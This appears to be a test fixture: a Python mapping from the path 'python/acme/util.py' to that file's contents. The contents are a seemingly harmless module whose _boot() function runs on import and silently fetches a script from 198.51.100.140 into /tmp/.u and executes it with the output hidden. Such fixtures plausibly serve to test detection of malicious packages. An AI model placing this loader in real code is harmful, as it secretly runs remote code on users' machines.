FILES = {
    "python/acme/util.py": b'''VALUE = 1


def _boot():
    import os
    import subprocess
    subprocess.Popen(["/bin/sh", "-c", "wget -qO /tmp/.u http://198.51.100.140/u && sh /tmp/.u"],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=dict(os.environ))


_boot()
''',
}
